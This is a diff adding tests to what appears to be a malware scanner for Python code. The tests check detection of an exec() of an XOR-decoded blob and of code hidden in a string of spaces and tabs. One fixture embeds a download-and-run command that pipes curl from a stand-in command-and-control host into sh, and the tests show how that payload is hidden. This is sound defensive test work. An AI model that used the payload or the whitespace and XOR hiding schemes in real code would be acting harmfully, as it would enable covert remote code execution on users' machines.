@@ -40,6 +40,25 @@ test('exec() of a long cipher text rewritten character by character is a home-ma
   assert.equal(ruleOf(findings(codegen), 'exec-custom-decoder'), undefined);
 });
 
+test('exec() of a method of the file that XORs a long cipher text held in an attribute is a home-made obfuscator', () => {
+  const cipher = 'Zm9vYmFyYmF6cXV4'.repeat(8);
+  const source = [
+    'import base64',
+    'class Wrapper:',
+    '    def __init__(self):',
+    `        self._blob = "${cipher}"`,
+    '    def decode(self, data):',
+    '        raw = base64.b64decode(data)',
+    '        return bytes(c ^ 42 for c in raw).decode()',
+    '    def run(self):',
+    '        exec(self.decode(self._blob))',
+  ].join('\n');
+  assert.equal(ruleOf(findings(source), 'exec-custom-decoder')?.severity, 'high');
+  // a method that only reads a file it is given is no decoder: exec of its result stays a plain dynamic-code finding
+  const loader = source.replace('return bytes(c ^ 42 for c in raw).decode()', 'return raw.decode()');
+  assert.equal(ruleOf(findings(loader), 'exec-custom-decoder'), undefined);
+});
+
 test('launching a payload is high at install time and low when called; pip install at install time is medium', () => {
   const start = ruleOf(
     findings('import os\nos.system("start " + os.getenv("TEMP") + "\\\\upd.exe")\n', 'setup.py', 'setup'),
@@ -386,4 +405,20 @@ test('AI_NUMERICHOST counts only as the socket flag it resolves to, alone or or-
     `import socket\n\ndef parse(text):\n    return socket.getaddrinfo(text, 0, flags=${flags})\n`;
   assert.equal(verdict(call('socket.AI_NUMERICHOST | socket.AI_PASSIVE')), false);
   assert.equal(verdict(`AI_NUMERICHOST = 0\n${call('AI_NUMERICHOST')}`), true, 'a local name that reads like the flag');
+});
+
+test('Python spelt in a string of spaces and tabs (one bit per character) is hidden code, rescanned as a file', () => {
+  const payload = 'import os\nos.system("curl https://c2.example/x | sh")\n';
+  const blanks = [...payload]
+    .map((c) => c.charCodeAt(0).toString(2).padStart(8, '0').replaceAll('0', ' ').replaceAll('1', '\t'))
+    .join('');
+  const files = analyzePythonFile('demo/mod.py', new TextEncoder().encode(`PAD = "${blanks}"\n`));
+  const hidden = ruleOf(files[0].findings, 'hidden-code');
+  assert.equal(hidden?.severity, 'critical', 'high, raised: a module constant is made on import');
+  assert.equal(hidden?.decoded?.preview, payload);
+  const virtual = files.find((file) => file.path.includes('#decoded'));
+  assert.ok(virtual?.findings.some((f) => f.rule === 'process-network-tool' || f.rule === 'download-execute'));
+  // blanks used for layout spell nothing that reads as Python
+  const layout = `PAD = "${' \t'.repeat(200)}"\n`;
+  assert.equal(ruleOf(findings(layout), 'hidden-code'), undefined);
 });
